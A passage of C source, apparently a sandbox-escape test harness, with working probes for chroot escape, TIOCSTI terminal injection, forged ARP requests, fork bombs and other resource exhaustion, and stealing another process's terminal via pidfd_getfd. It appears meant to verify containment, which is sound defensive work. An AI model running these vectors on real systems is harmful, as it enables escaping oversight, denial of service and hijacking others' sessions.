	int s = socket(AF_PACKET, SOCK_RAW, htons(ETH_P_ARP));
	if (s < 0)
		return result(denied(errno) ? 1 : 3, "AF_PACKET socket: %s", strerror(errno));
	struct ifreq ifr;
	memset(&ifr, 0, sizeof ifr);
	snprintf(ifr.ifr_name, sizeof ifr.ifr_name, "%s", ifname);
	if (ioctl(s, SIOCGIFINDEX, &ifr) < 0)
		return result(3, "no interface %s", ifname);
	int index = ifr.ifr_ifindex;
	unsigned char mac[6];
	if (macstr && *macstr) {
		if (sscanf(macstr, "%hhx:%hhx:%hhx:%hhx:%hhx:%hhx", &mac[0], &mac[1], &mac[2], &mac[3], &mac[4], &mac[5]) != 6)
			return result(3, "bad MAC %s", macstr);
	} else {
		if (ioctl(s, SIOCGIFHWADDR, &ifr) < 0)
			return result(3, "SIOCGIFHWADDR: %s", strerror(errno));
		memcpy(mac, ifr.ifr_hwaddr.sa_data, 6);
	}
	unsigned char f[42];
	memset(f, 0xff, 6);                     /* broadcast */
	memcpy(f + 6, mac, 6);
	f[12] = 0x08; f[13] = 0x06;             /* ARP */
	unsigned char arp[28] = {0, 1, 8, 0, 6, 4, 0, 1};  /* ethernet, IPv4, request */
	memcpy(arp + 8, mac, 6);
	inet_pton(AF_INET, claim, arp + 14);
	memset(arp + 18, 0, 6);
	inet_pton(AF_INET, target, arp + 24);
	memcpy(f + 14, arp, 28);
	struct sockaddr_ll to = {.sll_family = AF_PACKET, .sll_ifindex = index, .sll_halen = 6};
	memset(to.sll_addr, 0xff, 6);
	int sent = 0;
	for (int i = 0; i < 3; i++) {
		if (sendto(s, f, sizeof f, 0, (struct sockaddr *)&to, sizeof to) == (ssize_t)sizeof f)
			sent++;
		usleep(100000);
	}
	close(s);
	printf("SENT %d\n", sent);
	return result(sent ? 0 : 1, "sent %d ARP requests claiming %s for %02x:%02x:%02x:%02x:%02x:%02x", sent, claim,
		      mac[0], mac[1], mac[2], mac[3], mac[4], mac[5]);
}

/* ---------- terminal ---------- */

static int tiocsti(void)
{
	char *tty = ttyname(0);
	info("stdin is %s", tty ? tty : "(not a terminal)");
	if (!isatty(0))
		return result(2, "stdin is not a terminal");
	const char *inject = "#";
	int r = ioctl(0, TIOCSTI, inject);
	if (r == 0)
		return result(0, "TIOCSTI pushed a byte into the terminal");
	return result(errno == EPERM || errno == EIO ? 1 : 3, "TIOCSTI: %s", strerror(errno));
}

/* ---------- chroot ---------- */

static int chroot_escape(const char *marker, int use_fchdir)
{
	int keep = open("/", O_RDONLY | O_DIRECTORY);
	if (chdir("/tmp") < 0)
		return result(3, "chdir /tmp: %s", strerror(errno));
	mkdir("clst-test-chroot", 0700);
	if (chroot("clst-test-chroot") < 0)
		return result(denied(errno) ? 1 : 3, "chroot: %s", strerror(errno));
	if (use_fchdir)
		fchdir(keep);
	for (int i = 0; i < 256; i++)
		chdir("..");
	chroot(".");
	rmdir("/tmp/clst-test-chroot");
	struct stat st;
	if (stat(marker, &st) == 0)
		return result(0, "climbed out: %s is visible", marker);
	return result(1, "the climb ends at the sandbox's root: %s not visible (%s)", marker, strerror(errno));
}

/* ---------- resources ---------- */

static int fork_bomb(long max)
{
	static pid_t kids[200000];
	if (max > 200000)
		max = 200000;
	long n = 0;
	int e = 0;
	while (n < max) {
		pid_t p = fork();
		if (p < 0) {
			e = errno;
			break;
		}
		if (p == 0) {
			pause();
			_exit(0);
		}
		kids[n++] = p;
	}
	printf("FORKED %ld\n", n);
	fflush(stdout);
	for (long i = 0; i < n; i++)
		kill(kids[i], SIGKILL);
	for (long i = 0; i < n; i++)
		waitpid(kids[i], NULL, 0);
	if (n >= max)
		return result(0, "forked %ld processes without limit", n);
	return result(1, "fork failed after %ld processes: %s", n, strerror(e));
}

static int mem_hog(long mb)
{
	for (long i = 1; i <= mb; i++) {
		char *p = malloc(1 << 20);
		if (!p)
			return result(1, "malloc failed after %ld MiB", i - 1);
		memset(p, (int)i, 1 << 20);
		if (i % 16 == 0) {
			printf("ALLOCATED %ld\n", i);
			fflush(stdout);
		}
	}
	return result(0, "allocated %ld MiB", mb);
}

static volatile int stop_spin;
static void *spin_thread(void *arg)
{
	volatile unsigned long *count = arg;
	while (!stop_spin)
		(*count)++;
	return NULL;
}

static int spin(double seconds, int threads)
{
	pthread_t t[256];
	unsigned long counts[256] = {0};
	if (threads > 256)
		threads = 256;
	for (int i = 0; i < threads; i++)
		pthread_create(&t[i], NULL, spin_thread, &counts[i]);
	usleep((useconds_t)(seconds * 1e6));
	stop_spin = 1;
	unsigned long total = 0;
	for (int i = 0; i < threads; i++) {
		pthread_join(t[i], NULL);
		total += counts[i];
	}
	printf("SPIN %lu\n", total);
	return result(0, "spun %d thread(s) for %.1f s", threads, seconds);
}

static int fill(const char *path, long mb)
{
	int fd = open(path, O_WRONLY | O_CREAT | O_TRUNC, 0600);
	if (fd < 0)
		return result(3, "open %s: %s", path, strerror(errno));
	static char buf[1 << 20];
	memset(buf, 'x', sizeof buf);
	long written = 0;
	int e = 0;
	while (written < mb) {
		ssize_t n = write(fd, buf, sizeof buf);
		if (n != (ssize_t)sizeof buf) {
			e = n < 0 ? errno : ENOSPC;
			break;
		}
		written++;
	}
	fsync(fd);
	close(fd);
	printf("WROTE %ld\n", written);
	if (written >= mb)
		return result(0, "wrote %ld MiB to %s", written, path);
	return result(1, "stopped after %ld MiB: %s", written, strerror(e));
}

/*
 * hog KIND SECONDS: takes as many of a kernel resource as it can (inotify instances, POSIX
 * message-queue bytes, ptys), prints "HELD n (errno)" and holds them for SECONDS; "one KIND"
 * tries to take one more (the check that the limit was reached, or that another user is unhurt).
 */
static int take_one(const char *kind, int i)
{
	if (!strcmp(kind, "inotify"))
		return (int)syscall(SYS_inotify_init1, O_CLOEXEC);
	if (!strcmp(kind, "pty"))
		return open("/dev/ptmx", O_RDWR | O_NOCTTY | O_CLOEXEC);
	if (!strcmp(kind, "mqueue")) {
		char name[64];
		snprintf(name, sizeof name, "/clst-test-mq-%d-%d", getpid(), i);
		struct {
			long flags, maxmsg, msgsize, curmsgs, pad[4];
		} attr = {0, 8, 8192, 0, {0}};
		int fd = (int)syscall(SYS_mq_open, name + 1, O_CREAT | O_RDWR | O_CLOEXEC, 0600, &attr);
		if (fd >= 0)
			syscall(SYS_mq_unlink, name + 1);
		return fd;
	}
	errno = EINVAL;
	return -1;
}

static int hog(const char *kind, int seconds)
{
	struct rlimit rl = {1 << 20, 1 << 20};
	setrlimit(RLIMIT_NOFILE, &rl); /* the fd table must not be what stops us */
	getrlimit(RLIMIT_NOFILE, &rl);
	int n = 0, e = 0;
	for (;;) {
		if (take_one(kind, n) < 0) {
			e = errno;
			break;
		}
		if (++n >= 100000)
			break;
	}
	printf("HELD %d %s\n", n, strerror(e));
	fflush(stdout);
	sleep((unsigned)seconds);
	return result(n >= 100000 ? 0 : 1, "took %d %s before %s", n, kind, strerror(e));
}

static int one(const char *kind)
{
	int fd = take_one(kind, 0);
	if (fd < 0)
		return result(1, "one more %s: %s", kind, strerror(errno));
	return result(0, "one more %s: got it", kind);
}

/*
 * fd-thief: takes fds 0-2 of every process named COMM (pidfd_getfd: needs ptrace rights over
 * it) and writes MARKER on each that is a terminal of another devpts than OWN (the sandbox's
 * /dev/pts): the caller's terminal. Pipes the helper relays are the command's own output.
 */
static int fd_thief(const char *own, const char *comm, const char *marker, int seconds)
{
	struct stat ownst;
	if (stat(own, &ownst) < 0)
		return result(3, "stat %s: %s", own, strerror(errno));
	time_t end = time(NULL) + seconds;
	int seen = 0, taken = 0, refused = 0;
	char kinds[512] = "";
	while (time(NULL) < end) {
		DIR *d = opendir("/proc");
		struct dirent *e;
		while (d && (e = readdir(d))) {
			int pid = atoi(e->d_name);
			if (pid <= 0 || pid == getpid())
				continue;
			char path[64], name[64] = "";
			snprintf(path, sizeof path, "/proc/%d/comm", pid);
			FILE *f = fopen(path, "r");
			if (!f)
				continue;
			if (!fgets(name, sizeof name, f))
				name[0] = 0;
			fclose(f);
			name[strcspn(name, "\n")] = 0;
			if (strcmp(name, comm))
				continue;
			int pidfd = (int)syscall(SYS_pidfd_open, pid, 0);
			if (pidfd < 0)
				continue;
			seen++;
			for (int fd = 0; fd < 3; fd++) {
				int got = (int)syscall(SYS_pidfd_getfd, pidfd, fd, 0);
				if (got < 0) {
					refused++;
					continue;
				}
				taken++;
				struct stat st;
				fstat(got, &st);
				int tty = isatty(got);
				size_t l = strlen(kinds);
				snprintf(kinds + l, sizeof kinds - l, "%s%d:%s", l ? "," : "", fd,
					 tty ? (st.st_dev == ownst.st_dev ? "own-tty" : "FOREIGN-TTY")
					     : S_ISFIFO(st.st_mode) ? "pipe" : S_ISSOCK(st.st_mode) ? "socket"
					     : S_ISCHR(st.st_mode) ? "chardev" : "file");
				if (tty && st.st_dev != ownst.st_dev) {
					char msg[256];
					int n = snprintf(msg, sizeof msg, "\r\n%s\r\n", marker);
					int w = (int)write(got, msg, (size_t)n);
					close(got);
					close(pidfd);
					closedir(d);
					return result(0, "took fd %d of pid %d (%s): a terminal outside %s (dev %u:%u);"
						      " wrote %d bytes on it", fd, pid, comm, own, major(st.st_rdev),
						      minor(st.st_rdev), w);
				}
				close(got);
			}
			close(pidfd);
			if (taken + refused >= 3) {
				closedir(d);
				return result(1, "fds of %s (pid %d): %s%s", comm, pid, kinds[0] ? kinds : "none",
					      refused ? " (some refused)" : "");
			}
		}
		if (d)
			closedir(d);
		usleep(20000);
	}
	return result(2, "no process named %s within %d s (saw %d)", comm, seconds, seen);
}

/* ptrace-probe: PTRACE_SEIZE on PID (then detach): may this process trace it? */
static int ptrace_probe(int pid)
{
	if (ptrace(PTRACE_SEIZE, pid, 0, 0) < 0)
		return result(1, "PTRACE_SEIZE %d: %s", pid, strerror(errno));
	ptrace(PTRACE_DETACH, pid, 0, 0);
	return result(0, "PTRACE_SEIZE %d: attached (same or a parent Landlock domain)", pid);
}

/* landlock-sibling CMD...: runs the rest in a Landlock domain of its own (a scoped sibling). */
static int landlock_sibling(char **argv)
{
	struct {
		uint64_t fs, net, scoped;
	} attr = {0, 0, 0x2};
	int fd = (int)syscall(SYS_landlock_create_ruleset, &attr, sizeof attr, 0);
	if (fd < 0 || prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0) < 0 || syscall(SYS_landlock_restrict_self, fd, 0) < 0)
		return result(3, "landlock: %s", strerror(errno));
	execv(argv[0], argv);
	return result(3, "exec %s: %s", argv[0], strerror(errno));
}

int main(int argc, char **argv)
{
	setvbuf(stdout, NULL, _IOLBF, 0);
	signal(SIGPIPE, SIG_IGN); /* a peer that closes first must not end a listener */
	if (argc < 2) {
		fprintf(stderr, "usage: escape VECTOR [ARGS]\n");
		return 3;
	}
	vector = argv[1];
	const char *c = argv[1];
#define ARG(i) (argc > (i) ? argv[i] : "")
	if (!strcmp(c, "remount-rw"))
		return remount_rw(ARG(2), ARG(3));
	if (!strcmp(c, "mount-realfs"))
		return mount_realfs();
	if (!strcmp(c, "mount-over"))
		return mount_over(ARG(2), ARG(3));
	if (!strcmp(c, "write-same"))
		return write_same(ARG(2), 0);
	if (!strcmp(c, "write-same-unmasked"))
		return write_same(ARG(2), 1);
	if (!strcmp(c, "read"))
		return read_file_head(ARG(2));
	if (!strcmp(c, "kallsyms"))
		return kallsyms();
	if (!strcmp(c, "modules"))
		return modules();
	if (!strcmp(c, "kexec"))
		return kexec();
	if (!strcmp(c, "reboot"))
		return do_reboot();
	if (!strcmp(c, "clock"))
		return clock_set();
	if (!strcmp(c, "swap"))
		return swap();
	if (!strcmp(c, "mknod"))
		return mknod_read(ARG(2), strtoul(ARG(3), NULL, 0), strtoul(ARG(4), NULL, 0), ARG(5));
	if (!strcmp(c, "rawio"))
		return rawio();
	if (!strcmp(c, "rawio-benign"))
		return rawio_benign();
	if (!strcmp(c, "shocker"))
		return shocker(ARG(2));
	if (!strcmp(c, "cgroup1"))
		return cgroup1(ARG(2));
	if (!strcmp(c, "exe-race"))
		return exe_race(atoi(ARG(2)), ARG(3));
	if (!strcmp(c, "exe-control"))
		return exe_control(ARG(2));
	if (!strcmp(c, "leaks"))
		return leaks(argc > 2 ? argv[2] : NULL);
	if (!strcmp(c, "namespaces"))
		return namespaces();
	if (!strcmp(c, "find-proc"))
		return find_proc(ARG(2), argc > 3 ? atoi(argv[3]) : 0);
	if (!strcmp(c, "surface"))
		return surface(ARG(2));
	if (!strcmp(c, "ipc"))
		return ipc(ARG(2), ARG(3));
	if (!strcmp(c, "abs-listen"))
		return abs_listen(ARG(2), atoi(ARG(3)));
	if (!strcmp(c, "abs-connect"))
		return abs_connect(ARG(2));
	if (!strcmp(c, "ifaces"))
		return ifaces();
	if (!strcmp(c, "sniff"))
		return sniff(ARG(2), atoi(ARG(3)));
	if (!strcmp(c, "tiocsti"))
		return tiocsti();
	if (!strcmp(c, "chroot-escape"))
		return chroot_escape(ARG(2), 0);
	if (!strcmp(c, "fchdir-escape"))
		return chroot_escape(ARG(2), 1);
	if (!strcmp(c, "fork-bomb"))
		return fork_bomb(atol(ARG(2)));
	if (!strcmp(c, "mem-hog"))
		return mem_hog(atol(ARG(2)));
	if (!strcmp(c, "spin"))
		return spin(atof(ARG(2)), argc > 3 ? atoi(argv[3]) : 1);
	if (!strcmp(c, "euid"))
		return geteuid() == 0 ? result(0, "running with euid 0 (uid %d)", getuid()) : result(1, "euid %d", geteuid());
	if (!strcmp(c, "fill"))
		return fill(ARG(2), atol(ARG(3)));
	if (!strcmp(c, "arp-forge"))
		return arp_forge(ARG(2), ARG(3), ARG(4), ARG(5));
	if (!strcmp(c, "hog"))
		return hog(ARG(2), atoi(ARG(3)));
	if (!strcmp(c, "one"))
		return one(ARG(2));
	if (!strcmp(c, "fd-thief"))
		return fd_thief(ARG(2), ARG(3), ARG(4), atoi(ARG(5)));
	if (!strcmp(c, "ptrace-probe"))
		return ptrace_probe(atoi(ARG(2)));
	if (!strcmp(c, "landlock-sibling") && argc > 2)
		return landlock_sibling(argv + 2);
	fprintf(stderr, "unknown vector %s\n", c);
	return 3;
}
